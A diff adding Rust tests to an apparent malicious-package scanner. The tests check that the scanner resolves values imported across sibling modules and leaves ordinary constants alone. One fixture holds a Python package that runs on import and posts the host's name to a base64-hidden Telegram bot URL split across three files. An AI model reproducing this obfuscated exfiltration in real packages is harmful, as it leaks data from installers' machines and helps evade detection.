@@ -143,3 +143,85 @@ fn pyc_without_source_counts_and_beside_source_does_not() {
     assert!(!bytecode_only("__init__.cpython-311.pyc"));
     assert_eq!(report["verdict"], "malicious");
 }
+
+/// The ttlo pattern: the address is base64 in one module, the decoder beside it, and the
+/// request in a third file that star-imports them; no single file folds to anything.
+const SPLIT_SENDER: [(&str, &str); 4] = [
+    (
+        "setup.py",
+        "from setuptools import setup\nsetup(name='tt', packages=['tt'])\n",
+    ),
+    ("tt/__init__.py", "from tt.send import *\n\nsend()\n"),
+    (
+        "tt/b.py",
+        "import base64 as ba\n\n\ndef b(s):\n    return ba.b64decode(s).decode()\n\n\na = 'aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMzQ1Njc4OTA6QUFGMVcwalJ0a0RubkdCbFlBbWJDSXpVdTJxRGRUY19ibTQvc2VuZE1lc3NhZ2U='\n",
+    ),
+    (
+        "tt/send.py",
+        "from tt.b import *\nimport requests as r\nimport socket\n\n\ndef send():\n    r.post(b(a), data={'text': socket.gethostname()})\n",
+    ),
+];
+
+#[test]
+fn values_imported_from_a_sibling_module_fold_in_the_importer() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("tt-1.0");
+    write_package(&root, &SPLIT_SENDER);
+    let report = scan(&root);
+    let sender = report["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"].as_str().unwrap().ends_with("tt/send.py"))
+        .unwrap();
+    let messages: Vec<&str> = sender["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["message"].as_str().unwrap())
+        .collect();
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.contains("api.telegram.org") && m.contains("hidden")),
+        "{messages:?}"
+    );
+    assert_eq!(report["verdict"], "malicious", "{report}");
+}
+
+#[test]
+fn a_named_import_of_a_decoder_brings_the_aliases_it_uses() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("tt-1.0");
+    let mut files = SPLIT_SENDER;
+    files[3].1 = "from tt.b import b, a\nimport requests as r\nimport socket\n\n\ndef send():\n    r.post(b(a), data={'text': socket.gethostname()})\n";
+    write_package(&root, &files);
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "malicious", "{report}");
+}
+
+#[test]
+fn ordinary_constants_from_a_sibling_change_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("lib-1.0");
+    write_package(
+        &root,
+        &[
+            (
+                "setup.py",
+                "from setuptools import setup\nsetup(name='lib')\n",
+            ),
+            ("lib/__init__.py", "from lib.client import Client\n"),
+            (
+                "lib/const.py",
+                "API_URL = 'https://api.example.invalid/v1'\nTIMEOUT = 30\nUSER_AGENT = 'lib/1.0'\n",
+            ),
+            (
+                "lib/client.py",
+                "import requests\nfrom lib.const import *\n\n\nclass Client:\n    def get(self, path):\n        return requests.get(API_URL + path, timeout=TIMEOUT)\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "benign", "{report}");
+}
